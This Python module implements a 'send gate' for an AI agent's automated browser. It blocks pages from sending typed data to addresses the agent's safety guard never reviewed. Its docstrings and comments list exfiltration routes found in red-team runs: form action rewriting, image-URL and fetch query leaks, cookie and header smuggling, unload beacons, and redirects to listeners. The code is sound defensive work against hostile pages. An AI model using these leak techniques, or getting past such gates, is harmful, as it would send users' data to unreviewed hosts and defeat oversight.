"""The browser sends data only where it told the guard it would.

The guard reviews a click or a key press on a page by where the page's forms post (``meta["sends"]``, read
from the page after the previous action) and the page's own address (``safety.flow``). A page can change that
after the review: ``onsubmit="this.action='http://elsewhere/'"``, or a script that posts what was typed. So the
browser itself holds the line: once the agent has typed into the page (typing, a key, a choice in a list:
its data is in the page now; a ``browser_goto`` starts afresh), a request to an address that is neither the
page's nor one its forms showed in the last observation, nor one the run went to with an approved
``browser_goto``, is aborted, and the observation says so. That holds for GETs too (redteam10): a script can put
what was typed into a URL (``new Image().src = 'http://x/?' + value``, ``fetch(url + '?q=' + value)``,
``location = …``), so after the typing only a URL the page already requested before it (a resource loaded
again: it cannot hold the typed text) may go to another address, and only with the headers a script can set as
they were then (redteam11: cookies are kept per host, not per port, so ``document.cookie = value`` rode along to a
listener on another port of the same host; ``Accept-Language`` and the Referer can carry text too). A WebSocket to another address is refused
the same way, and one opened before the typing may not send to it afterwards. What a page sends before the
agent typed anything into it (its own data) is left to the network sandbox (``network`` and ``allowed_hosts``).

Two things hold whether or not the agent typed (flow22). The page's own navigation is the agent's next page: a
top-level navigation (a script's ``location = …``, ``window.open``, a meta refresh, a form whose action a script
changed on submit, a link whose ``href`` changed on mousedown) may go only to the page's address, where its forms
post, an address a ``browser_goto`` went to, or the link an approved click followed (as the browser resolved it
before the click); a link's hyperlink-auditing ``ping`` goes nowhere else either. And what was typed stays typed
across a ``browser_goto`` to the same host: its script may have kept it in a cookie (per host) or its storage, and
the next page there can read and send it, so the gate stays armed there.

A navigation's redirect never reaches ``route`` (Playwright routes the first request only). Behind the sandbox's
proxy, the proxy shows each plain-HTTP redirect to ``redirect``; with the network ``full`` there is no proxy (flow23:
a same-host link and the task's own host, given the data in a goto, redirected it to a listener). There the gate
fetches each top-level navigation itself without following redirects (``fetch_redirects``): a redirect to an address
the guard was not shown is answered with a 403 that says so; one to a shown address becomes a page that goes there,
a new navigation this gate judges again.
"""

from __future__ import annotations

import contextlib
import json
import re
from collections.abc import Callable
from typing import Any
from urllib.parse import urljoin, urlsplit

from macrohard.envs import served

_SAFE_METHODS = frozenset({"GET", "HEAD", "OPTIONS"})
_MAX_BEFORE = 4000  # URLs remembered from before the typing


def _host(url: str) -> str:
    try:
        return (urlsplit(url).hostname or "").lower()
    except ValueError:
        return ""


def address(url: str) -> str:
    """``host:port`` of a URL (the scheme's default port when none is given); "" when it has no host."""
    try:
        parts = urlsplit(url)
        port = parts.port or {"https": 443, "wss": 443, "ws": 80, "http": 80}.get(parts.scheme, 0)
    except ValueError:
        return ""
    return f"{(parts.hostname or '').lower()}:{port}" if parts.hostname else ""


# headers the browser sets from a fixed set of values; every other one a page's script can fill with what was
# typed: the Cookie (``document.cookie``), Accept-Language and the other safelisted headers of a no-cors fetch,
# the Referer (``history.replaceState`` with ``referrerPolicy: 'unsafe-url'``), custom headers after a preflight
_FIXED = re.compile(r"^(?:sec-fetch-.*|sec-ch-ua.*|priority|user-agent|accept-encoding|connection|host|"
                    r"upgrade-insecure-requests|cache-control|pragma)$")


def _headers(request: Any) -> dict:
    """The headers of a request that a page's script could have set."""
    try:
        return {k: v for k, v in request.all_headers().items() if not _FIXED.match(k.lower())}
    except Exception:  # noqa: BLE001  (the browser is closing: nothing is sent)
        return {"?": "?"}


class SendGate:
    """Aborts requests that carry data to an address the guard was not shown (see the module's docstring)."""

    def __init__(self, fetch_redirects: bool = False) -> None:
        self.fetch_redirects = fetch_redirects  # no proxy sees redirects (network full): fetch navigations here
        self.shown: set[str] = set()  # the page's address and where its forms post, as last reported
        self.gone: set[str] = set()  # addresses of approved browser_goto actions
        self.stopped: list[str] = []  # "METHOD URL" of each request aborted
        self.armed = False  # the agent typed into the page since the last browser_goto
        self.before: set[str] = set()  # URLs requested since the last browser_goto, before any typing
        self.headers: dict[str, dict] = {}  # the headers each of those went to another address with (_headers)
        self.clicked: set[str] = set()  # the address of the link the click in progress follows
        self.typed_hosts: set[str] = set()  # hosts of the pages typed into (their cookies and storage hold it)
        self.going = False  # a browser_goto is under way: its first navigation is the goto itself
        self.passing: dict[str, int] = {}  # address -> routed requests let go there, not yet seen by the proxy
        # the proxy's open tunnels: cut(keep) closes those whose (host, port) keep does not keep (rt56b)
        self.cut: Callable[[Callable[[str, int], bool]], list[str]] | None = None
        self.leaving = False  # a browser_goto to another host left a page typed into: its unload may still send

    def went(self, url: str) -> None:
        # its request is routed (http and https only: a data: URL's is not, and its script's navigation is the page's)
        self.going = url.lower().startswith(("http://", "https://"))  # (http://2130706433/ goes to 127.0.0.1)
        self.leaving = self.armed or self.leaving  # the page typed into unloads as this goto commits (rt56b)
        self.armed = _host(url) in self.typed_hosts
        self.before.clear()
        self.headers.clear()
        if a := address(url):
            self.gone.add(a)

    def typed_host(self, url: str) -> bool:
        """Whether ``url``'s host is one typed into (a goto there keeps the gate armed)."""
        return _host(url) in self.typed_hosts

    def typed(self, page_url: str = "") -> None:
        self.armed = True
        if host := _host(page_url):
            self.typed_hosts.add(host)

    def seal(self) -> list[str]:
        """At the start of each action once the agent typed (rt56b): the proxy's tunnels to addresses a request may
        not reach now are cut, and routed requests let go there are forgotten. Over HTTPS the proxy sees a tunnel
        once, not the requests in it: a beacon the browser sends as the page unloads rode a tunnel the page opened
        before the typing (an image from away), which ``admits`` never saw. Cut, the browser's next request there
        opens a new tunnel, and ``admits`` refuses what no route let go."""
        if not (self.armed or self.leaving) or self.cut is None:
            return []
        self.passing.clear()
        keep = self.shown | self.gone | self.clicked
        return self.cut(lambda host, port: f"{host.lower()}:{port}" in keep)

    def arrived(self) -> None:
        """The action is over: a page left by a goto to another host has unloaded (its beacons were sent)."""
        self.leaving = False

    def reported(self, page_url: str, sends: list[str]) -> None:
        self.shown = {a for a in (address(u) for u in [page_url, *sends]) if a}

    def route(self, route: Any) -> None:
        request = route.request
        method = str(request.method).upper()
        top = _top_navigation(request)
        if self.typed_hosts and _navigation_request(request) and _host(request.url) in self.typed_hosts:
            self.armed = True  # rt63b: a page of a host typed into is loaded again (back, a link, a script, a frame)
        # rt63b: and whatever a document or service worker of such a host asks arms it: a page restored from the
        # back/forward cache or reached by a redirect, a frame, a popup, its service worker hold the text (and could
        # hand it to a page of another host by postMessage)
        if self.typed_hosts and not self.armed and _initiator_host(request) in self.typed_hosts:
            self.armed = True
        if top and self.going:
            self.going = False
        elif not self._allowed(request.url) and (top or request.resource_type == "ping"):
            if address(request.url) not in self.clicked:
                what = "ping" if request.resource_type == "ping" else "navigation"
                self.stopped.append(f"{what} {method} {request.url[:200]}")
                route.abort("blockedbyclient")
                return
        if top and (dest := address(request.url)):
            self.gone.add(dest)  # a page the agent was let go to: going back to it is going where it went
        if not self.armed:
            if len(self.before) < _MAX_BEFORE:
                self.before.add(request.url)
                if not self._allowed(request.url):
                    self.headers[request.url] = _headers(request)
            if self.leaving and not self._allowed(request.url) and (dest := address(request.url)):
                self.passing[dest] = self.passing.get(dest, 0) + 1  # the new page's own: the proxy lets it by
            self._go_on(route, top)
            return
        if self._allowed(request.url) or (method in _SAFE_METHODS and not request.post_data_buffer
                                          and request.url in self.before
                                          and _headers(request) == self.headers.get(request.url, {})):
            if not self._allowed(request.url) and (dest := address(request.url)):
                self.passing[dest] = self.passing.get(dest, 0) + 1  # the proxy will see it: let it by there
            self._go_on(route, top)  # a resource loaded again, with the headers it had (cookies: per host, not port)
            return
        self.stopped.append(f"{method} {request.url[:200]}")
        route.abort("blockedbyclient")

    def _go_on(self, route: Any, top: bool) -> None:
        """Let the request go; a top-level navigation with ``fetch_redirects`` is fetched here without following a
        redirect, whose next hop is judged as ``redirect`` judges the proxy's (see the module's docstring)."""
        request = route.request
        if not (top and self.fetch_redirects and request.url.lower().startswith(("http://", "https://"))):
            route.fallback()
            return
        if served.served_url(request.url):  # fetched here, outside the sandbox: never macrohard's own web app (rt42)
            self.stopped.append(f"navigation {request.method} {request.url[:200]}")
            route.fulfill(status=403, content_type="text/plain",
                          body="macrohard: this is macrohard's own web app, where people answer the guard's "
                               "questions; a browser run never reaches it")
            return
        try:
            response = route.fetch(max_redirects=0)
        except Exception:  # noqa: BLE001  unreachable, reset, timed out or closing
            # fail closed: letting the browser try on its own would follow a redirect nobody judged (a server that
            # drops the first request and answers the browser's own with a redirect elsewhere)
            with contextlib.suppress(Exception):  # the page or the browser is closing: nothing to stop
                route.abort("failed")
            return
        location = response.headers.get("location", "")
        if 300 <= response.status < 400 and location:
            target = urljoin(request.url, location)
            if (why := self.redirect(request.url, target, "Sec-Fetch-Mode: navigate")) is not None:
                route.fulfill(status=403, content_type="text/plain", body=why)
                return
            route.fulfill(status=200, content_type="text/html",
                          body=f"<!doctype html><script>location.replace({json.dumps(target)})</script>")
            return
        route.fulfill(response=response)

    def redirect(self, url: str, location: str, request_headers: str) -> str | None:
        """The proxy's hook: why a plain-HTTP redirect of a navigation may not be followed (None: it may). A
        redirect's next hop never reaches ``route``; a page that answers its own address's request with a redirect
        elsewhere is navigation the guard was not shown, as a script's ``location = …`` is."""
        if self._allowed(location) or address(location) in self.clicked or not _navigation(request_headers):
            return None
        self.stopped.append(f"navigation redirect {location[:200]}")
        return (f"macrohard: {url[:120]} redirects to {location[:200]}, an address the guard was not shown; "
                "if the task needs it, open it with browser_goto")

    def stopped_text(self, entries: list[str]) -> str:
        """What the observation says about requests the gate stopped."""
        navs = [e.split(" ", 2)[2] for e in entries if e.startswith(("navigation ", "ping "))]  # WHAT METHOD URL
        sends = [e for e in entries if not e.startswith(("navigation ", "ping "))]
        text = ""
        if navs:
            text += ("\nStopped: the page tried to take the browser to an address it did not show the guard (not "
                     "this page's, its forms', a link clicked or one gone to); if the task needs it, open it with "
                     "browser_goto, which the guard reviews: " + ", ".join(navs[:3]))
        if sends:
            text += ("\nStopped: after text was typed into it, the page tried to reach an address it did not show "
                     "before this action (its forms said otherwise when the guard reviewed it; a request there "
                     "could carry the text): " + ", ".join(sends[:3]))
        return text

    def _allowed(self, url: str) -> bool:
        dest = address(url)
        return not dest or dest in self.shown or dest in self.gone

    def admits(self, host: str, port: int) -> str | None:
        """The proxy's hook for every request it is handed (rt55b): why it may not go now, or None. Once the agent
        typed, a request to an address the gate would not let a routed request reach, and that no routed request
        the gate let go is on its way to, is one the gate never saw (a beacon or a keepalive fetch sent by the
        browser process as the page unloads, on the agent's next ``browser_goto``): refused."""
        dest = f"{host.lower()}:{port}"
        if not (self.armed or self.leaving) or dest in self.shown or dest in self.gone or dest in self.clicked:
            return None
        if self.passing.get(dest, 0) > 0:
            self.passing[dest] -= 1
            return None
        self.stopped.append(f"PROXY http://{dest}/")
        return (f"macrohard: after text was typed, a request to {dest} that the browser's send gate did not see "
                "(the browser's own, such as a beacon sent as a page unloads) is refused")

    def route_ws(self, ws: Any) -> None:
        """A WebSocket: refused to an address not shown once the agent typed; one opened before may not send
        to such an address afterwards (its messages to the server are dropped and reported)."""
        if self.armed and not self._allowed(ws.url):
            self.stopped.append(f"WebSocket {ws.url[:200]}")
            ws.close()
            return
        server = ws.connect_to_server()

        def to_server(message: Any) -> None:
            if self.armed and not self._allowed(ws.url):
                self.stopped.append(f"WebSocket send {ws.url[:200]}")
                return
            server.send(message)

        ws.on_message(to_server)


def _top_navigation(request: Any) -> bool:
    """A navigation of a page's top frame (a popup's included), which decides the agent's next page."""
    try:
        if not request.is_navigation_request():
            return False
    except Exception:  # noqa: BLE001  (a service worker's request: not a navigation)
        return False
    try:
        return request.frame.parent_frame is None
    except Exception:  # noqa: BLE001  (a popup's first navigation, ``window.open``: its frame is not made yet)
        return True


def _navigation_request(request: Any) -> bool:
    """Whether ``request`` loads a document (a top-level page, a popup's or a frame's)."""
    try:
        return bool(request.is_navigation_request())
    except Exception:  # noqa: BLE001  (a service worker's request: not a navigation)
        return False


def _initiator_host(request: Any) -> str:
    """The host of what asked for ``request``: its service worker's script, else the document of its frame
    ("" when neither is known: a popup's first navigation, a browser closing)."""
    try:
        worker = request.service_worker
        if worker is not None:
            return _host(worker.url)
    except Exception:  # noqa: BLE001
        pass
    try:
        return _host(request.frame.url)
    except Exception:  # noqa: BLE001
        return ""


def _navigation(request_headers: str) -> bool:
    """Whether a request's raw headers are a navigation's: ``Sec-Fetch-Mode: navigate`` where the browser sends
    Sec-Fetch headers (to loopback and https); else a document's ``Accept`` with ``Upgrade-Insecure-Requests``."""
    fields = {k.strip().lower(): v.strip().lower() for k, _, v in
              (line.partition(":") for line in request_headers.split("\r\n")) if k}
    if "sec-fetch-mode" in fields:
        return fields["sec-fetch-mode"] == "navigate"
    return fields.get("upgrade-insecure-requests") == "1" and fields.get("accept", "").startswith("text/html")
